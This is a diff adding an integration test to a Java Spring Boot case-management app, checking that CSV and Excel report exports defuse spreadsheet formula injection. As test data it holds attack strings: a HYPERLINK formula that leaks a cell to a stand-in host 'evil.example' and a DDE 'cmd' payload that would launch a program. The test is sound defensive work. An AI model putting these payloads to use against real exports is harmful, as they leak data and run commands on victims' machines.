@@ -1,5 +1,10 @@
 package org.redress.web;
 
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
+import org.apache.poi.ss.usermodel.Cell;
+import org.apache.poi.ss.usermodel.CellType;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.Test;
 import org.redress.testing.Api;
@@ -23,6 +28,7 @@ import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
 import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
 import tools.jackson.databind.JsonNode;
 
+import java.io.StringReader;
 import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
 import java.time.Instant;
@@ -40,8 +46,9 @@ import java.util.regex.Pattern;
 import static org.assertj.core.api.Assertions.assertThat;
 
 /**
- * Ordinary but unexpected input, sent as an attacker would over HTTP: dates no calendar holds and empty items in JSON
- * lists. Each is a 400 naming the field, never a 500, and a refused request stores nothing.
+ * Ordinary but unexpected input, sent as an attacker would over HTTP: dates no calendar holds, empty items in JSON
+ * lists, and text that a spreadsheet would run as a formula. Each is a 400 naming the field (or is written safely),
+ * never a 500, and a refused request stores nothing.
  */
 @SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
 @ActiveProfiles("test")
@@ -167,6 +174,32 @@ class OrdinaryInputIT {
         assertThat(count("casework.case_file")).isEqualTo(cases);
     }
 
+    @Test
+    void textThatWouldRunAsASpreadsheetFormulaIsExportedAsTextWithALeadingQuote() throws Exception {
+        clock.setUk("2026-11-23T10:00");
+        String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")";
+        newCase("=HYPERLINK(\"https://evil.example\",\"Name\")", formula, "@SUM(1+1)");
+        List<CSVRecord> received = csv(BASE + "/reports/measures/received-by-service-area/export.csv?from=2026-11-01&to=2026-11-30");
+        assertThat(received).extracting(rec -> rec.get("group")).contains("'" + formula).doesNotContain(formula);
+
+        List<CSVRecord> filtered = csv(BASE + "/reports/measures/complaints-received/export.csv?from=2026-11-01&to=2026-11-30&serviceArea="
+                + encode("-2+3+cmd|' /C calc'!A0"));
+        assertThat(filtered).isNotEmpty().allSatisfy(rec -> assertThat(rec.get("service_area")).isEqualTo("'-2+3+cmd|' /C calc'!A0"));
+        // the application's own numbers stay numbers
+        assertThat(filtered).allSatisfy(rec -> assertThat(rec.get("count")).matches("\\d+"));
+
+        // Excel: the same text is a text cell, never a formula
+        byte[] xlsx = java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest.newBuilder(java.net.URI.create("http://localhost:"
+                        + port + BASE + "/reports/measures/received-by-service-area/export.xlsx?from=2026-11-01&to=2026-11-30"))
+                .header("Authorization", Api.ADMIN_AUTHORIZATION).build(), java.net.http.HttpResponse.BodyHandlers.ofByteArray()).body();
+        try (XSSFWorkbook book = new XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
+            List<Cell> cells = new ArrayList<>();
+            book.getSheetAt(0).forEach(row -> row.forEach(cells::add));
+            assertThat(cells).noneMatch(c -> c.getCellType() == CellType.FORMULA);
+            assertThat(cells).filteredOn(c -> c.getCellType() == CellType.STRING).extracting(Cell::getStringCellValue).contains(formula);
+        }
+    }
+
     // ---- helpers ----------------------------------------------------------------------------------------------------
 
     /** Every API read with a date parameter, found in Spring's handler mapping so a new one is covered. */
@@ -253,6 +286,12 @@ class OrdinaryInputIT {
                  "description":"The repair was never booked"}""".formatted(json(name), json(serviceArea), json(subject)));
         assertThat(r.status()).as(r.body()).isEqualTo(201);
         return r.json().get("caseFile").get("reference").asString();
+    }
+
+    List<CSVRecord> csv(String path) throws Exception {
+        Api.Response r = api().get(path);
+        assertThat(r.status()).as(r.body()).isEqualTo(200);
+        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(r.body())).getRecords();
     }
 
     long count(String table) {
